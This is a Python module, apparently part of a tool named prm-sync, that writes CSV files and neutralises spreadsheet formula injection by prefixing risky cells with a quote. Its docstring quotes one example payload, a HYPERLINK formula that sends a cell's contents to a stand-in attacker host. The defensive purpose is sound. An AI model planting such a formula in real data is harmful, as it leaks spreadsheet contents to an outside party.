"""The one CSV writer of every CSV prm-sync produces (exports, reports, lists, attachments).

Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` (and, in some, TAB or CR) as a formula:
a partner named `=HYPERLINK("http://evil.example/?"&A1,"Click")` in the CRM would run in finance's
spreadsheet when it opens the payout file (OWASP "CSV injection"). Such a text cell gets a leading `'`,
which spreadsheets show as text. A number is left alone, so a clawback `-120.50` stays a number: a
Decimal, int or float, or a string that is a plain number. `raw=True` (`--raw` on the command line)
writes every cell as it is, for programs that read the file.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def cell_text(value: Any) -> str:
    """A cell's text: empty for None, exact decimal text for money, ISO 8601 for dates."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, dt.datetime | dt.date):
        return value.isoformat()
    return str(value)


def neutralise(value: Any) -> str:
    """`value` as a cell a spreadsheet will not run as a formula."""
    text = cell_text(value)
    if isinstance(value, bool) or not text.startswith(FORMULA_STARTS):
        return text
    if isinstance(value, int | float | Decimal) or _PLAIN_NUMBER.fullmatch(text):
        return text
    return "'" + text


def write_csv(stream: TextIO, columns: Sequence[str], rows: Iterable[Mapping[str, Any]], *,
              raw: bool = False, header: Sequence[str] | None = None) -> int:
    """Write a header row and one row per mapping (missing keys empty); return the rows written."""
    writer = csv.writer(stream, lineterminator="\n")
    # the csv module quotes a field holding "\n" (the line terminator) but not one holding a lone "\r",
    # which readers take for a line end: such a row is written with every field quoted
    quoted = csv.writer(stream, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerow(list(header or columns))
    cell = cell_text if raw else neutralise
    count = 0
    for row in rows:
        cells = [cell(row.get(c)) for c in columns]
        (quoted if any("\r" in c for c in cells) else writer).writerow(cells)
        count += 1
    return count
